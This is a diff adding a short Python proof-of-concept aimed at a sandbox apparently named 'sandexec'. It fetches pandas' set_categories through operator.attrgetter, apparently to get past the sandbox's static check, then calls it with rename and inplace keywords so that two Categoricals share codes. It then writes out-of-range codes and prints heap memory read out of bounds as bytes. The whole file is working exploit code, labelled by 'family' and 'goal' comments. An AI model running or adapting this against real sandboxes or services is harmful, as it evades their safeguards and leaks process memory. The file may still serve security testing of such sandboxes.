@@ -1,0 +1,16 @@
+# source: sandexec README, "The static check", "pandas' category methods with inplace= ... two Categoricals may share codes (cat[:], pd.Index(cat))"; pandas 1.5.3 Categorical.set_categories(new, ordered, rename, inplace) / add_categories; take_nd reads unchecked codes
+# family: operator.attrgetter literal name of set_categories with rename=/inplace= keywords on the fetched method
+# goal: operator.attrgetter("set_categories")(c)(bigger, rename=True, inplace=True): heap read out of bounds
+import operator
+import numpy as np
+import pandas as pd
+c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
+d = c[:]
+f = operator.attrgetter("set_categories")(c)
+f(list(range(1, 120)), rename=True, inplace=True)
+c[1] = 100
+c[2] = 110
+print("codes of d", d.codes)
+vals = np.asarray(d)
+print("read past the categories of d:", vals)
+print("as bytes:", vals[1:3].tobytes())
